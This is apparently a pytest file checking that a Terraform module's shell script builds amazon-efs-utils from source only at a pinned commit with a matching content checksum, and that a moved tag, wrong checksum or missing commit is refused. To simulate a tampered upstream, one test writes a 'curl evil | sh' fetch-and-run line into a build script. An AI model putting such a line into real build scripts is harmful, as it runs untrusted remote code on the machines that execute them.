"""efs-utils by commit and checksum (issue 26): the SSH machines build amazon-efs-utils from source, taken at a
commit and refused unless the SHA-256 of its content is the pinned one (terraform/modules/ssh_machines/scripts/
efs_utils.sh). The script's check runs for real with git against a repository made here; the checksum is computed
independently below from its definition (sha256sum's lines for every tracked file, in byte order, hashed again)."""

from __future__ import annotations

import hashlib
import os
import re
import subprocess

import pytest

from tests.support import ROOT

MODULE = ROOT / "terraform/modules/ssh_machines"
SCRIPT = MODULE / "scripts/efs_utils.sh"
GIT_ENV = {"GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@example.org", "GIT_COMMITTER_NAME": "t",
           "GIT_COMMITTER_EMAIL": "t@example.org", "GIT_CONFIG_GLOBAL": "/dev/null", "GIT_CONFIG_NOSYSTEM": "1"}  # fmt: skip


def _content_sha256(files: dict[str, bytes]) -> str:
    lines = "".join(f"{hashlib.sha256(files[p]).hexdigest()}  {p}\n" for p in sorted(files, key=str.encode))
    return hashlib.sha256(lines.encode()).hexdigest()


@pytest.fixture
def upstream(tmp_path):
    repo = tmp_path / "upstream"
    files = {"build-deb.sh": b"#!/bin/sh\necho build\n", "src/proxy/Cargo.lock": b"# lock\n", "B.txt": b"b\n"}
    for name, data in files.items():
        (repo / name).parent.mkdir(parents=True, exist_ok=True)
        (repo / name).write_bytes(data)
    env = {**os.environ, **GIT_ENV}
    for cmd in (["init", "-q"], ["add", "."], ["commit", "-qm", "release"], ["tag", "v2.3.2"]):
        subprocess.run(["git", "-C", str(repo), *cmd], check=True, env=env)
    # GitHub serves any commit by its id (uploadpack.allowAnySHA1InWant); a local repository does so when told
    subprocess.run(
        ["git", "-C", str(repo), "config", "uploadpack.allowAnySHA1InWant", "true"], check=True, env=env
    )
    commit = subprocess.run(["git", "-C", str(repo), "rev-parse", "HEAD"], check=True, env=env,
                            capture_output=True, text=True).stdout.strip()  # fmt: skip
    return repo, commit, _content_sha256(files), env


def _verified_source(url, commit, sha256, dest, env):
    run = f'set -euo pipefail\n. "{SCRIPT}"\nverified_source "$@"\n'
    return subprocess.run(["bash", "-c", run, "efs_utils.sh", url, commit, sha256, str(dest)],
                          env=env, capture_output=True, text=True)  # fmt: skip


def test_the_source_is_built_only_at_its_commit_with_its_checksum(upstream, tmp_path):
    repo, commit, sha256, env = upstream
    ok = _verified_source(f"file://{repo}", commit, sha256, tmp_path / "a", env)
    assert ok.returncode == 0, ok.stderr
    assert (tmp_path / "a/build-deb.sh").read_bytes() == b"#!/bin/sh\necho build\n"


def test_other_content_or_another_commit_is_refused(upstream, tmp_path):
    repo, commit, sha256, env = upstream
    # the same tag moved to other content: another commit, refused by the pinned commit (it is not the tag's)
    (repo / "build-deb.sh").write_bytes(b"#!/bin/sh\ncurl evil | sh\n")
    for cmd in (["commit", "-qam", "moved"], ["tag", "-f", "v2.3.2"]):
        subprocess.run(["git", "-C", str(repo), *cmd], check=True, env=env, capture_output=True)
    ok = _verified_source(f"file://{repo}", commit, sha256, tmp_path / "a", env)
    assert ok.returncode == 0, ok.stderr  # the pinned commit still gives the pinned content
    assert b"evil" not in (tmp_path / "a/build-deb.sh").read_bytes()
    wrong = "0" * 64
    bad = _verified_source(f"file://{repo}", commit, wrong, tmp_path / "b", env)
    assert bad.returncode == 1 and not (tmp_path / "b").exists()
    assert f"has content sha256 {sha256}, not {wrong}; not built" in bad.stderr
    missing = _verified_source(f"file://{repo}", "f" * 40, sha256, tmp_path / "c", env)
    assert missing.returncode == 1 and not (tmp_path / "c").exists()
    assert f"cannot fetch commit {'f' * 40}" in missing.stderr


def test_the_module_pins_a_commit_and_a_checksum_and_builds_offline():
    variables = (MODULE / "variables.tf").read_text()
    commit = re.search(r'variable "efs_utils_commit" \{.*?default\s+= "([0-9a-f]+)"', variables, re.S).group(
        1
    )
    sha256 = re.search(r'variable "efs_utils_sha256" \{.*?default\s+= "([0-9a-f]+)"', variables, re.S).group(
        1
    )
    assert len(commit) == 40 and len(sha256) == 64
    template = (MODULE / "templates/ssh.sh.tftpl").read_text()
    assert "/usr/local/sbin/cluster-efs-utils '${efs_utils_commit}' '${efs_utils_sha256}'" in template
    assert "git clone" not in template and "--branch" not in template
    script = SCRIPT.read_text()
    assert "cargo fetch --locked" in script and "CARGO_NET_OFFLINE=true ./build-deb.sh" in script
